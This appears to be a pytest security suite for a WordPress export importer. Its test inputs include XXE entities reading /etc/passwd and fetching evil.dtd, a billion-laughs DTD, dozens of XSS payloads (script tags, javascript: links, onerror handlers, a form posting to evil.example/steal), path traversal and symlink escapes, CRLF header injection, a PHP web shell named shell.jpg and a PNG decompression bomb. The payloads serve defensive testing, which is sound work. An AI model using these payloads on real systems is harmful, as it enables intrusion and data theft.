"""`plenary import wordpress` against hostile and broken exports: refused files change nothing, a hostile post is
imported as inert text, uploads outside --uploads are never read, an import killed half-way leaves nothing.

Every refusal is checked on a database that already holds an import (so "nothing changed" means something): a
full dump of every table before and after must be equal. Line and column numbers are compared with what Python's
own expat (the same library) reports for the same bytes. Both engines (PLENARY_TEST_PG).
"""
import hashlib
import os
import re
import signal
import socket
import subprocess
import tempfile
import time
import xml.parsers.expat

import pytest

from conftest import REPO, _binary
from test_import import (OLD, article, big_export, body_of, diff, doc_of, dump, fetch, import_wp, imported,
                         item_lines, media_files, query, serve, workspace)
from wxr_make import BILLION_LAUGHS, Export, block_image, block_paragraph, image_bytes, truncated, utc, with_doctype


@pytest.fixture
def ws(tmp_path):
    """A fresh database that holds one import of a small site already."""
    w = workspace(str(tmp_path))
    imported(w.db, w.xml, "--uploads", w.uploads, config=w.config)
    w.before = dump(w.db)
    w.files_before = media_files(w.media)
    return w


def write(ws, name, text, mode="w"):
    path = os.path.join(ws.tmp, name)
    with open(path, mode) as f:
        f.write(text)
    return path


def refused(ws, path, *more, timeout=60):
    """Runs the import, which must be refused (exit 1, a message naming the file) and change nothing."""
    t0 = time.monotonic()
    p = import_wp(ws.db, path, *more, config=ws.config, timeout=timeout)
    assert p.returncode == 1, f"exit {p.returncode}, expected 1\nstdout: {p.stdout[-2000:]}\nstderr: {p.stderr[-2000:]}"
    assert os.path.basename(path) in p.stderr, f"the message does not name the file: {p.stderr!r}"
    after = dump(ws.db)
    assert after == ws.before, f"a refused file changed the database: {diff(ws.before, after)}"
    assert media_files(ws.media) == ws.files_before, "a refused file left images in media_dir"
    p.seconds = time.monotonic() - t0
    return p


def expat_position(data):
    """(line, column) where expat stops on these bytes (column 0-based, as expat counts)."""
    parser = xml.parsers.expat.ParserCreate(namespace_separator=" ")
    try:
        parser.Parse(data if isinstance(data, bytes) else data.encode(), True)
    except xml.parsers.expat.ExpatError as e:
        return e.lineno, e.offset
    raise AssertionError("expat read these bytes without an error")


def assert_position(stderr, line, column):
    m = re.search(r"line (\d+), column (\d+)", stderr)
    assert m, f"no 'line L, column C' in {stderr!r}"
    assert int(m.group(1)) == line, f"line {m.group(1)}, expat says {line}: {stderr!r}"
    assert int(m.group(2)) in (column, column + 1), f"column {m.group(2)}, expat says {column} (0-based): {stderr!r}"


# ==== refused files ===========================================================================================

def test_a_doctype_with_nested_entities_is_refused_at_once(ws):
    text = with_doctype(ws_text(ws), BILLION_LAUGHS).replace("<title><![CDATA[Adjuvant", "<title>&lol9;<![CDATA[Adjuvant")
    p = refused(ws, write(ws, "laughs.xml", text), timeout=30)
    assert p.seconds < 10, f"the refusal took {p.seconds:.1f} s"
    assert "DOCTYPE" in p.stderr
    assert re.search(r"line 2, column \d+", p.stderr), p.stderr
    assert "lollollol" not in p.stdout + p.stderr


def ws_text(ws):
    with open(ws.xml, encoding="utf-8") as f:
        return f.read()


def test_an_external_entity_is_never_read_or_fetched(ws):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        subset = (f'<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
                  f'<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/evil.dtd">\n%remote;')
        text = with_doctype(ws_text(ws), subset).replace("<title><![CDATA[Adjuvant", "<title>&xxe;<![CDATA[Adjuvant")
        p = refused(ws, write(ws, "xxe.xml", text))
        assert "root:" not in p.stdout + p.stderr
        assert re.search(r"line 2, column \d+", p.stderr), p.stderr
        time.sleep(0.2)
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody came for evil.dtd
    finally:
        listener.close()
    assert query(ws.db, "SELECT id FROM article WHERE title LIKE '%root:%' OR body LIKE '%root:%'") == []


def test_a_file_cut_inside_a_cdata_section_is_refused_with_its_line_and_column(ws):
    text = truncated(ws_text(ws), "<content:encoded><![CDATA[<!-- wp:paragraph -->\n<p>Adjuvant", 10)
    p = refused(ws, write(ws, "cut-cdata.xml", text))
    assert_position(p.stderr, *expat_position(text))


def test_a_file_cut_inside_an_element_is_refused_with_its_line_and_column(ws):
    text = truncated(ws_text(ws), "<wp:post_id>102</wp:post_id>\n\t\t<wp:post_da")
    p = refused(ws, write(ws, "cut-element.xml", text))
    assert_position(p.stderr, *expat_position(text))


def test_a_malformed_file_is_refused_with_its_line_and_column(ws):
    text = ws_text(ws).replace("<wp:post_id>102</wp:post_id>", "<wp:post_id>102</wp:post_ID>", 1)
    p = refused(ws, write(ws, "mismatched.xml", text))
    assert_position(p.stderr, *expat_position(text))


NOT_WXR = {
    "feed.xml": ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>A blog</title>'
                 "<link>https://blog.example/</link><item><title>Hello</title><description>Hi</description>"
                 "</item></channel></rss>\n"),
    "page.html": "<!doctype html>\n<html><head><title>Not an export</title></head><body><p>Hi</p></body></html>\n",
    "empty.xml": "",
    "future.xml": None,  # a WXR whose version no WordPress wrote
    "photo.xml": b"\xff\xd8\xff\xe0" + b"\x00" * 64,
}


@pytest.mark.parametrize("name", sorted(NOT_WXR))
def test_a_file_that_is_not_a_wordpress_export_is_refused(ws, name):
    content = NOT_WXR[name]
    if content is None:
        content = ws_text(ws).replace("<wp:wxr_version>1.2</wp:wxr_version>", "<wp:wxr_version>9.9</wp:wxr_version>")
    path = write(ws, name, content, "wb" if isinstance(content, bytes) else "w")
    refused(ws, path)


def test_a_field_over_the_limit_is_refused(ws):
    e = Export(site=OLD)
    e.author("admin", "ada@old.example.org", "Ada Admin")
    e.category("breast-cancer", "Breast Cancer")
    e.post(901, "A normal post first", block_paragraph("Fine."), slug="normal-first", categories=["breast-cancer"])
    e.post(902, "Huge", "<p>" + "a" * (17 << 20) + "</p>", slug="huge", categories=["breast-cancer"])
    path = e.write(os.path.join(ws.tmp, "huge.xml"))
    p = refused(ws, path, timeout=120)
    assert re.search(r"line \d+", p.stderr), p.stderr
    assert query(ws.db, "SELECT id FROM article WHERE slug IN ('normal-first', 'huge')") == []


def test_a_missing_or_unreadable_file_is_refused(ws):
    refused(ws, os.path.join(ws.tmp, "nowhere.xml"))
    refused(ws, ws.tmp + "/")  # a folder


# ==== a hostile post is imported as inert text ================================================================

HOSTILE_BODY = "\n".join([
    "<p>Before <script>alert('s1')</script> after.</p>",
    "<p><img src=\"x\" onerror=\"alert('e1')\" alt=\"bad image\"></p>",
    "<p><a href=\"javascript:alert('j1')\">js link</a> <a href=\" JaVaScRiPt:alert('j2')\">spaced js</a> "
    "<a href=\"java&#x09;script:alert('j3')\">tabbed js</a> "
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a> "
    "<a href=\"vbscript:msgbox(1)\">vb link</a></p>",
    "<p style=\"background:url(javascript:alert('st'))\">styled paragraph</p>",
    "<style>body { display: none }</style>",
    "<iframe src=\"https://evil.example/frame\" srcdoc=\"<script>alert('sd')</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/e.swf\">",
    "<svg onload=\"alert('svg')\"><circle r=\"5\"></circle></svg>",
    "<math><mi xlink:href=\"javascript:alert('math')\">m</mi></math>",
    "<form action=\"https://evil.example/steal\"><input name=\"password\"><button formaction=\"javascript:alert(1)\">"
    "go</button></form>",
    "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<p>Looks like markup: &lt;script&gt;alert('t1')&lt;/script&gt; and [md link](javascript:alert('m1')) "
    "and ![md image](javascript:alert('m2')) and <span>&lt;img src=x onerror=alert('t2')&gt;</span></p>",
    "<p><img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"data image\"></p>",
    "<p><a href=\"https://ok.example/page\" onclick=\"alert('c1')\" onmouseover=\"alert('c2')\">ok link</a></p>",
    "<!-- wp:html --><div onclick=\"alert('d1')\"><script src=\"https://evil.example/x.js\"></script></div>"
    "<!-- /wp:html -->",
    "[embed]javascript:alert('embed')[/embed]",
    "<p>The end of the hostile post.</p>",
])
HOSTILE_TITLE = "Hostile </script><script>alert('title')</script><img src=x onerror=alert('t')> post"
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
BANNED_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base",
               "meta", "link", "frame", "frameset", "applet", "textarea", "select", "noscript", "template"}


def squeeze(value):
    """A URL as a browser reads its scheme: whitespace and control characters out, lower case."""
    return re.sub(r"[\x00-\x20]", "", value or "").lower()


def scripts_and_handlers(doc):
    """What a page runs: its <script> elements (type, src) and every on* attribute, as a sorted list."""
    out = []
    for n in doc.iter():
        if n.tag == "script":
            out.append(("script", n.get("type"), n.get("src")))
        for k in n.attrs:
            if k.lower().startswith("on"):
                out.append(("handler", n.tag, k))
    return sorted(out, key=repr)


def runs_nothing_hostile(doc):
    """No handler attribute and no script (other than JSON data) mentions alert, and no script comes from
    elsewhere."""
    for n in doc.iter():
        for k, v in n.attrs.items():
            assert not (k.lower().startswith("on") and "alert" in (v or "")), f"<{n.tag} {k}={v!r}>"
        if n.tag == "script":
            assert "evil.example" not in (n.get("src") or ""), n
            if n.get("type") != "application/ld+json":
                assert "alert" not in n.text(), n.text()[:200]
    return True


def test_a_hostile_post_reaches_its_page_as_inert_text(tmp_path):
    w = workspace(str(tmp_path))
    e = Export(site=OLD)
    e.author("admin", "ada@old.example.org", "Ada <script>alert('author')</script>")
    e.category("breast-cancer", "Breast <b onmouseover=alert(1)>Cancer</b>")
    e.tag("evil", "<script>alert('tag')</script>")
    e.attachment(701, "2023/12/lecture-hall.jpg", alt="\" onerror=\"alert('alt')")
    e.post(801, "A plain post", block_paragraph("Nothing to see."), slug="plain-post",
           date=utc(2023, 12, 1, 9, 0), categories=["breast-cancer"])
    e.post(802, HOSTILE_TITLE, HOSTILE_BODY, slug="hostile-post", date=utc(2023, 12, 2, 9, 0),
           excerpt="<script>alert('excerpt')</script>A summary", categories=["breast-cancer"], tags=["evil"],
           meta={"_thumbnail_id": "701"})
    xml_path = e.write(os.path.join(w.tmp, "hostile.xml"))
    with open(os.path.join(w.uploads, "2023/12/lecture-hall.jpg"), "wb") as f:
        f.write(image_bytes("jpeg", label=7))
    r = imported(w.db, xml_path, "--uploads", w.uploads, config=w.config)
    assert r.counts["topics"]["created"] == 1
    assert query(w.db, "SELECT slug FROM tag WHERE slug = 'evil'"), \
        f"the topic whose name was hostile is not there, though the report counted it:\n{r.text}"
    srv = serve(w)
    try:
        plain = doc_of(srv, "/article/plain-post")
        r = fetch(srv, "/article/hostile-post")
        assert r.status_code == 200, r.status_code
        doc = doc_of(srv, "/article/hostile-post")
        # the page runs exactly what an ordinary article page runs
        assert scripts_and_handlers(doc) == scripts_and_handlers(plain)
        body = body_of(doc)
        for n in body.iter():
            assert n.tag not in BANNED_TAGS, f"<{n.tag}> in the article body"
            for k, v in n.attrs.items():
                k = k.lower()
                assert not k.startswith("on") and k not in ("style", "srcdoc", "formaction", "xlink:href"), \
                    f"{k}= on <{n.tag}> in the article body"
                if k in ("href", "src", "srcset", "action", "poster", "cite", "background"):
                    assert not squeeze(v).startswith(BAD_SCHEMES), f"<{n.tag} {k}={v!r}> in the article body"
        text = " ".join(body.text().split())
        assert "The end of the hostile post." in text and "ok link" in text
        assert "<script>alert('t1')</script>" in text, "text that looks like markup was lost instead of shown"
        h1 = doc.find("h1")
        assert [c for c in h1.children if not isinstance(c, str)] == [], "the title became markup"
        # every link of the page, not only the body's, keeps to safe schemes
        for n in doc.iter():
            for k in ("href", "src", "action", "formaction"):
                assert not squeeze(n.get(k)).startswith(BAD_SCHEMES), f"<{n.tag} {k}={n.get(k)!r}>"
        for path in ("/section/breast-cancer", "/tag/evil", "/", "/article/hostile-post"):
            assert runs_nothing_hostile(doc_of(srv, path)), path
    finally:
        srv.stop()


# ==== uploads: only files inside --uploads are ever read ======================================================

def test_uploads_outside_the_uploads_folder_are_never_read(tmp_path):
    w = workspace(str(tmp_path))
    outside = os.path.join(w.tmp, "outside")
    os.makedirs(outside)
    secret = os.path.join(outside, "secret.jpg")
    secret_bytes = image_bytes("jpeg", label=99)
    with open(secret, "wb") as f:
        f.write(secret_bytes)
    ok_bytes = image_bytes("jpeg", label=42)
    os.makedirs(os.path.join(w.uploads, "2023/12"), exist_ok=True)
    with open(os.path.join(w.uploads, "2023/12/ok.jpg"), "wb") as f:
        f.write(ok_bytes)
    os.symlink(secret, os.path.join(w.uploads, "2023/12/link.jpg"))
    os.symlink(outside, os.path.join(w.uploads, "linked"))
    # reading a file moves its access time when that is older than its change time (relatime)
    old = time.time() - 10 * 86400
    os.utime(secret, (old, os.stat(secret).st_mtime))
    e = Export(site=OLD)
    e.author("admin", "ada@old.example.org", "Ada Admin")
    e.category("breast-cancer", "Breast Cancer")
    escapes = {401: "../outside/secret.jpg", 402: secret, 403: "2023/12/link.jpg", 404: "linked/secret.jpg",
               406: "../../../../../../../../etc/passwd", 407: "2023/12/../../../outside/secret.jpg"}
    for att, file in escapes.items():
        e.attachment(att, file, alt=f"Escape {att}")
        e.post(att + 200, f"Post with image {att}", block_paragraph(f"Image {att}."), slug=f"escape-{att}",
               date=utc(2023, 12, 1, 9, att - 400), categories=["breast-cancer"], meta={"_thumbnail_id": str(att)})
    e.attachment(405, "2023/12/ok.jpg", alt="An ordinary upload")
    e.post(605, "Post with an ordinary image", block_paragraph("Fine."), slug="ordinary-image",
           date=utc(2023, 12, 1, 10, 0), categories=["breast-cancer"], meta={"_thumbnail_id": "405"})
    e.post(610, "Body images out of bounds",
           block_paragraph(f'<img src="{OLD}/wp-content/uploads/../outside/secret.jpg" alt="dots">'
                           f'<img src="{OLD}/wp-content/uploads/%2e%2e/outside/secret.jpg" alt="encoded dots">'
                           f'<img src="{OLD}/wp-content/uploads/linked/secret.jpg" alt="linked folder">'),
           slug="body-escapes", date=utc(2023, 12, 1, 11, 0), categories=["breast-cancer"])
    xml_path = e.write(os.path.join(w.tmp, "escapes.xml"))
    p = import_wp(w.db, xml_path, "--uploads", w.uploads, config=w.config)
    assert p.returncode == 0, f"{p.returncode}\n{p.stdout}\n{p.stderr}"
    hashes = {r[0] for r in query(w.db, "SELECT hash FROM media")}
    ok_hash = hashlib.sha256(ok_bytes).hexdigest()[:32]
    secret_hash = hashlib.sha256(secret_bytes).hexdigest()[:32]
    assert ok_hash in hashes, "the ordinary upload was not imported (the test proves nothing)"
    assert secret_hash not in hashes, "a file outside --uploads was imported"
    assert not [f for f in media_files(w.media) if secret_hash in f]
    assert os.stat(secret).st_atime < time.time() - 86400, "the file outside --uploads was read"
    report = p.stdout
    for att in escapes:
        assert f"post {att + 200} " in report, f"post {att + 200}'s image is not reported:\n{report}"
    assert "root:" not in p.stdout + p.stderr
    for slug in [f"escape-{a}" for a in escapes] + ["body-escapes"]:
        assert article(w.db, slug)["image_id"] is None


# ==== an import killed half-way ===============================================================================

def open_for_writing(fifo, proc, seconds=20):
    """The write end of a FIFO once the import has opened it for reading (never blocks forever)."""
    deadline = time.monotonic() + seconds
    while True:
        try:
            fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            os.set_blocking(fd, True)
            return fd
        except OSError:  # ENXIO until a reader opens it
            assert proc.poll() is None, f"the import ended before reading: {proc.communicate()}"
            assert time.monotonic() < deadline, "the import never opened the file"
            time.sleep(0.02)


def write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def test_an_import_killed_half_way_leaves_the_database_as_it_was(ws):
    text = big_export(3000).text().encode()
    fifo = os.path.join(ws.tmp, "export.fifo")
    os.mkfifo(fifo)
    proc = subprocess.Popen([_binary(), "import", "wordpress", fifo, "--db", ws.db, "--config", ws.config],
                            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    fd = None
    try:
        fd = open_for_writing(fifo, proc)
        write_all(fd, text[:len(text) // 2])  # blocks until the import has taken all but a pipe's worth
        time.sleep(1.5)  # it reads the rest and writes what it read into its transaction
        assert proc.poll() is None, f"the import stopped on half a file: {proc.communicate()}"
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
    finally:
        if fd is not None:
            os.close(fd)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == -signal.SIGKILL
    after = dump(ws.db)
    assert after == ws.before, f"a killed import left rows behind: {diff(ws.before, after)}"
    # and the next import goes through
    whole = os.path.join(ws.tmp, "whole.xml")
    with open(whole, "wb") as f:
        f.write(text)
    r = imported(ws.db, whole, config=ws.config)
    assert r.counts["articles"]["created"] == 3000, r.text
    assert query(ws.db, "SELECT count(*) FROM article WHERE slug LIKE 'bulk-interview-%'")[0][0] == 3000
    assert item_lines(r, "post", 10000) == []


def test_the_import_reads_a_pipe(tmp_path):
    """Streaming: the file may be a pipe (never seeked, never mapped)."""
    w = workspace(str(tmp_path))
    with tempfile.TemporaryDirectory() as d:
        fifo = os.path.join(d, "export.fifo")
        os.mkfifo(fifo)
        text = big_export(50).text().encode()
        proc = subprocess.Popen([_binary(), "import", "wordpress", fifo, "--db", w.db, "--config", w.config],
                                cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        fd = open_for_writing(fifo, proc)
        try:
            for i in range(0, len(text), 4096):
                write_all(fd, text[i:i + 4096])
        finally:
            os.close(fd)
        out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, f"{out}\n{err}"
    assert query(w.db, "SELECT count(*) FROM article")[0][0] == 50


# ==== addresses from the export: slugs, page paths, old permalinks ===========================================

SERVER_PATHS = ["/admin/", "/signin/", "/account/", "/media/x/", "/static/x/"]


def addresses_export(path):
    e = Export(site=OLD)
    e.author("admin", "ada@old.example.org", "Ada Admin")
    e.category("breast-cancer", "Breast Cancer")
    e.post(1, "Dots in the slug", block_paragraph("x"), slug="../../admin", categories=["breast-cancer"])
    e.post(2, "A header in the slug", block_paragraph("x"), slug="a%0d%0aset-cookie:x=1",
           categories=["breast-cancer"], date=utc(2023, 1, 2))
    e.post(3, "A very long slug", block_paragraph("x"), slug="long-" * 600, categories=["breast-cancer"],
           date=utc(2023, 1, 3))
    for n, old in enumerate(SERVER_PATHS):  # pages whose old permalinks are the server's own paths
        e.page(10 + n, f"Old page {n}", block_paragraph(f"Old page at {old}."),
               slug=old.strip("/").rsplit("/", 1)[-1], link=OLD + old)
    return e.write(path)


def server_answers(w, name):
    srv = serve(w, name=name)
    try:
        return {p: (r.status_code, r.headers.get("location")) for p in SERVER_PATHS for r in [fetch(srv, p)]}
    finally:
        srv.stop()


def test_pages_from_an_export_cannot_take_the_servers_own_paths(tmp_path):
    w = workspace(str(tmp_path))
    before = server_answers(w, "before")
    rep = imported(w.db, addresses_export(os.path.join(w.tmp, "addresses.xml")), config=w.config)
    for path, in query(w.db, "SELECT path FROM page"):
        assert not path.startswith(("/admin", "/signin", "/account", "/media/", "/static/")), path
    after = server_answers(w, "after")
    assert after == before, \
        f"the server's own addresses answer differently after the import:\n{after}\n{before}\n{rep.text}"


def test_slugs_paths_and_old_links_from_a_hostile_export_are_kept_in_bounds(tmp_path):
    w = workspace(str(tmp_path))
    rep = imported(w.db, addresses_export(os.path.join(w.tmp, "addresses.xml")), config=w.config)
    for slug, in query(w.db, "SELECT slug FROM article"):
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", slug) and len(slug) <= 200, f"article slug {slug!r}"
    long_from = [f for f, in query(w.db, "SELECT from_path FROM redirect") if len(f.encode()) > 1000]
    assert long_from == [], f"redirects from paths over 1,000 bytes: {[f[:60] for f in long_from]}"
    assert rep.counts["pages"]["created"] == len(SERVER_PATHS), f"a page was lost:\n{rep.text}"


# ==== uploads that are not what they say ======================================================================

def png_bomb():
    """A small PNG file of 40,000 x 40,000 pixels (1.6 gigapixels when decoded)."""
    import io
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
    w = h = 40000
    raw = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * (w // 8)  # filter byte + one bit per pixel
    body = b"".join(raw.compress(row) for _ in range(h)) + raw.flush()
    out = io.BytesIO()
    out.write(b"\x89PNG\r\n\x1a\n")
    out.write(chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)))
    out.write(chunk(b"IDAT", body))
    out.write(chunk(b"IEND", b""))
    return out.getvalue()


def test_uploads_that_are_not_images_or_are_bombs_are_reported_not_imported(tmp_path):
    w = workspace(str(tmp_path))
    fakes = {"2023/12/shell.jpg": b"<?php system($_GET['c']); ?>\n",
             "2023/12/drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)'
                                    b"</script></svg>",
             "2023/12/page.png": b"<!doctype html><script>alert(3)</script>",
             "2023/12/bomb.png": png_bomb(),
             "2023/12/empty.jpg": b""}
    for rel, data in fakes.items():
        os.makedirs(os.path.dirname(os.path.join(w.uploads, rel)), exist_ok=True)
        with open(os.path.join(w.uploads, rel), "wb") as f:
            f.write(data)
    e = Export(site=OLD)
    e.author("admin", "ada@old.example.org", "Ada Admin")
    e.category("breast-cancer", "Breast Cancer")
    for n, rel in enumerate(fakes):
        e.attachment(300 + n, rel, alt=f"Fake {n}")
        e.post(400 + n, f"Post with fake image {n}",
               block_paragraph("Text.") + block_image(300 + n, e.upload_url(rel), f"Fake {n}"),
               slug=f"fake-image-{n}", date=utc(2023, 12, 1, 9, n), categories=["breast-cancer"],
               meta={"_thumbnail_id": str(300 + n)})
    xml_path = e.write(os.path.join(w.tmp, "fakes.xml"))
    t0 = time.monotonic()
    p = import_wp(w.db, xml_path, "--uploads", w.uploads, config=w.config, timeout=120)
    assert p.returncode == 0, f"{p.returncode}\n{p.stdout}\n{p.stderr[-2000:]}"
    assert time.monotonic() - t0 < 60
    assert query(w.db, "SELECT id FROM media") == [], "a file that is not a usable image is in the library"
    for n in range(len(fakes)):
        assert f"post {400 + n} " in p.stdout, f"post {400 + n}'s image is not reported:\n{p.stdout}"
        a = article(w.db, f"fake-image-{n}")
        assert a["image_id"] is None and "/wp-content/" not in a["body"], a["body"]
    assert media_files(w.media) == []
